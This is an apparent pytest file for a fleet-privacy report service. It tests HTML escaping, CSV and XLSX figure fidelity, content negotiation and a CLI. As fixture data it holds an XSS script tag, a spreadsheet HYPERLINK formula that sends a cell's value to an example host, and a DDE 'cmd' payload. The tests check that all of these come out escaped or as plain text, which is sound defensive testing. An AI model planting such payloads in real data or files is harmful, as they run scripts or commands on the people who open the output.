"""htmlTable (escaped, standalone), CSV and XLSX with the JSON's figures, content negotiation, the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import zipfile
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from analysis_support import JAN, Fleet, all_lines, analyse, ms, pair, tree
from support import cli

XSS = "<script>alert(1)</script>"


@pytest.fixture
def xss(client, acme, db):  # type: ignore[no-untyped-def]
    """The acme fleet plus a driver whose name is a script tag, with a trip."""
    with db.session() as s:
        f = Fleet(s, acme["t"].customer_id)
        who = f.individu(XSS, prenom='"&amp;')
        f.step(acme["ids"]["v3"], who, ms("2026-01-12T10:00:00+01:00"), ms("2026-01-12T11:30:00+01:00"),
               distance_m=12_345.0, fuel_l=1.0)
    return who


def test_html_table_is_escaped_and_standalone(client, acme, xss):
    item = analyse(client, acme["h"], "BY_DRIVER_WITH_HORAIRE_SYNTHESIS", *JAN).json()[0]
    page = item["htmlTable"]
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert '<meta charset="utf-8">' in page and "<table>" in page
    assert XSS not in page and "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &#34;&amp;amp;" in page
    # French headings, km with a decimal comma, h:mm durations, subtotals and the grand total.
    for text in ("Conducteur", "Véhicule", "Distance vie privée (km)", "Durée vie professionnelle",
                 "Coût total (EUR)", "Sous-total HQ › Atelier", "Total HQ et sous-entités", "Total général",
                 "Conducteur non identifié", "12,3", "1:30", "Sans entité"):
        assert text in page, text
    # The JSON keeps the name as it is.
    assert all_lines(item["synthesisTreeByDriver"])[str(xss)]["driver"]["individu"]["nomInd"] == XSS


def test_html_format_and_accept_header(client, acme, xss):
    body = {"renderMode": "BY_VEHICLE_WITH_HORAIRE_DETAIL", "periode": {"debut": JAN[0], "fin": JAN[1]}}
    url = f"{client.base}/analyse/preformattedPrivacy"
    r = client.post(url, headers=acme["h"], json=body, params={"format": "html"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    assert "<script" not in r.text and "<th>Jour</th>" in r.text
    r = client.post(url, headers={**acme["h"], "Accept": "text/csv"}, json=body)
    assert r.headers["content-type"].startswith("text/csv") and "attachment" in r.headers["content-disposition"]
    r = client.post(url, headers={**acme["h"], "Accept": "application/json, text/csv"}, json=body)
    assert r.headers["content-type"].startswith("application/json")
    r = client.post(url, headers={**acme["h"], "Accept": "*/*"}, json=body)
    assert r.headers["content-type"].startswith("application/json")
    r = client.post(url, headers={**acme["h"],
                                  "Accept": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
                    json=body)
    assert r.content[:2] == b"PK"


def _json_rows(item: dict, detail: bool) -> dict[str, dict]:
    return all_lines(item["synthesisTreeByDriver"] or item["synthesisTreeByVehicle"])


# (CSV heading, path in a JSON line, scale from JSON units to XLSX units)
_FIGURES = [
    ("Durée vie privée (s)", ("total", "durationInSecByPeriodMap", "VIE_PRIVEE"), 1 / 86400),
    ("Durée vie professionnelle (s)", ("total", "durationInSecByPeriodMap", "VIE_PROFESSIONNELLE"), 1 / 86400),
    ("Distance vie privée (m)", ("total", "distanceInMeterByPeriodMap", "VIE_PRIVEE"), 1 / 1000),
    ("Distance vie professionnelle (m)", ("total", "distanceInMeterByPeriodMap", "VIE_PROFESSIONNELLE"), 1 / 1000),
    ("Distance électrique vie privée (m)", ("total", "distanceElectriqueInMeterByPeriodMap", "VIE_PRIVEE"), 1 / 1000),
    ("Batterie vie privée (points)", ("total", "utilisationBatterieByPeriodMap", "VIE_PRIVEE"), 1),
    ("Carburant vie privée (L)", ("total", "consoLByPeriodMap", "VIE_PRIVEE"), 1),
    ("Coût vie privée (EUR)", ("total", "costByPeriodMap", "VIE_PRIVEE"), 1),
    ("Carburant total (L)", ("consoL",), 1),
    ("Électricité totale (kWh)", ("consoKWh",), 1),
    ("Coût total (EUR)", ("cost",), 1),
]


def _dig(obj, path):  # type: ignore[no-untyped-def]
    for p in path:
        obj = obj[p]
    return obj


@pytest.mark.parametrize("mode", ["BY_DRIVER_WITH_HORAIRE_SYNTHESIS", "BY_VEHICLE_WITHOUT_HORAIRE_DETAIL"])
def test_csv_and_xlsx_carry_the_json_figures(client, acme, xss, mode):
    detail = mode.endswith("DETAIL")
    item = analyse(client, acme["h"], mode, *JAN).json()[0]
    root = item["synthesisTreeByDriver"] or item["synthesisTreeByVehicle"]
    lines = _json_rows(item, detail)
    who_id = "Id conducteur" if mode.startswith("BY_DRIVER") else "Id véhicule"

    def json_key(row: dict) -> str:
        key = row[who_id] or "0"
        return f"{key}_{row['Jour']}" if detail else key

    r = analyse(client, acme["h"], mode, *JAN, params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["Type de ligne"] for row in rows].count("LIGNE") == len(lines)
    assert rows[-1]["Type de ligne"] == "TOTAL GÉNÉRAL"
    for row in rows:
        if row["Type de ligne"] == "LIGNE":
            ref = lines[json_key(row)]
        elif row["Type de ligne"] == "TOTAL GÉNÉRAL":
            ref = root["entityTotalCumul"]
        else:
            continue
        for heading, path, _scale in _FIGURES:
            assert float(row[heading]) == _dig(ref, path), heading  # exactly the JSON's numbers

    r = analyse(client, acme["h"], mode, *JAN, params={"format": "xlsx"})
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(r.content), read_only=True).active
    table = list(sheet.iter_rows())
    headings = [c.value for c in table[0]]
    csv_headings = list(rows[0].keys())
    assert len(headings) == len(csv_headings) and len(table) - 1 == len(rows)
    first_figure = len(csv_headings) - 17
    scales = {h: s for h, _p, s in _FIGURES}
    for xrow, crow in zip(table[1:], rows, strict=True):
        assert xrow[0].value == crow["Type de ligne"]
        for j, heading in enumerate(csv_headings[first_figure:], start=first_figure):
            cell = xrow[j]
            value = cell.value
            if isinstance(value, dt.timedelta):  # openpyxl reads [h]:mm numbers back as durations
                value = value.total_seconds() / 86400
            else:
                assert cell.data_type == "n", (heading, cell.value)
            assert isinstance(value, float | int), (heading, value)
            if heading in scales:
                assert value == pytest.approx(float(crow[heading]) * scales[heading], rel=1e-9, abs=1e-6), heading
    # In the file itself every figure cell is a number (no t="s"/"inlineStr"/"str" attribute).
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        xml = ElementTree.fromstring(z.read("xl/worksheets/sheet1.xml"))
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    for xml_row in xml.findall(".//m:sheetData/m:row", ns)[1:]:
        cells = xml_row.findall("m:c", ns)
        assert all(c.get("t", "n") == "n" for c in cells[first_figure:])
    assert "Durée vie privée (h:mm)" in headings and "Distance vie privée (km)" in headings


def test_cli_report(client, acme, xss, database_url, tmp_path):
    env = {**os.environ, "FLEETPRIVACY_DATABASE_URL": database_url}
    cid = str(acme["t"].customer_id)
    r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "2026-01-31", env=env)
    assert r.returncode == 0, r.stderr
    out = r.stdout
    assert "Durand Jean" in out and "Total général" in out and XSS in out and "Conducteur non identifié" in out
    r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "2026-01-31", "--mode",
            "BY_VEHICLE_WITH_HORAIRE_DETAIL", "--format", "csv", "--criteria", "GEOLOCATION", env=env)
    assert r.returncode == 0, r.stderr
    rows = list(csv.DictReader(io.StringIO(r.stdout)))
    assert {row["Véhicule"] for row in rows if row["Type de ligne"] == "LIGNE"} == {"AA-100", "NO-300"}
    for fmt in ("xlsx", "html", "json"):
        target = tmp_path / f"report.{fmt}"
        r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "2026-01-31", "--format", fmt,
                "--out", str(target), env=env)
        assert r.returncode == 0 and target.stat().st_size > 1000, r.stderr
    # The CLI and the API agree.
    api = tree(analyse(client, acme["h"], "BY_DRIVER_WITH_HORAIRE_SYNTHESIS", *JAN))
    import json  # noqa: PLC0415

    cli_tree = json.loads((tmp_path / "report.json").read_text())[0]["synthesisTreeByDriver"]
    assert pair(cli_tree["entityTotalCumul"]["total"]["distanceInMeterByPeriodMap"]) == pair(
        api["entityTotalCumul"]["total"]["distanceInMeterByPeriodMap"])
    r = cli("report", "--customer", cid, "--from", "2026-02-01", "--to", "2026-01-01", env=env)
    assert r.returncode == 2 and "periode.fin" in r.stderr
    r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "2026-01-31", "--mode", "NOPE", env=env)
    assert r.returncode == 2 and "renderMode" in r.stderr
    r = cli("rebuild-rollups", "--customer", cid, env=env)
    assert r.returncode == 0 and '"etape_part_days"' in r.stdout


def test_xlsx_names_are_text_never_formulas(client, acme, db):
    """A name starting with `=` (a driver's, a vehicle's, an entity's) is a text cell, not a live formula."""
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
    with db.session() as s:
        f = Fleet(s, acme["t"].customer_id)
        entity = f.entity("+cmd|' /C calc'!A0")
        who = f.individu(formula, entity, prenom="")
        vehicle = f.vehicle("=1+2", entity)
        f.step(vehicle, who, ms("2026-01-12T10:00:00+01:00"), ms("2026-01-12T11:00:00+01:00"), distance_m=1_000.0)
    for mode in ("BY_DRIVER_WITH_HORAIRE_SYNTHESIS", "BY_VEHICLE_WITH_HORAIRE_DETAIL"):
        r = analyse(client, acme["h"], mode, *JAN, params={"format": "xlsx"})
        sheet = load_workbook(io.BytesIO(r.content)).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], mode
        texts = {c.value.strip() for c in cells if isinstance(c.value, str)}
        assert formula in texts and "=1+2" in texts, mode


def test_cli_report_bad_bounds_and_unwritable_out_are_errors_not_tracebacks(acme, database_url, tmp_path):
    env = {**os.environ, "FLEETPRIVACY_DATABASE_URL": database_url}
    cid = str(acme["t"].customer_id)
    r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "9999-12-31", env=env)
    assert r.returncode == 2 and "--to" in r.stderr and "Traceback" not in r.stderr, r.stderr
    missing = tmp_path / "no" / "such" / "dir" / "report.csv"
    r = cli("report", "--customer", cid, "--from", "2026-01-01", "--to", "2026-01-31", "--format", "csv",
            "--out", str(missing), env=env)
    assert r.returncode == 2 and "--out" in r.stderr and "Traceback" not in r.stderr, r.stderr
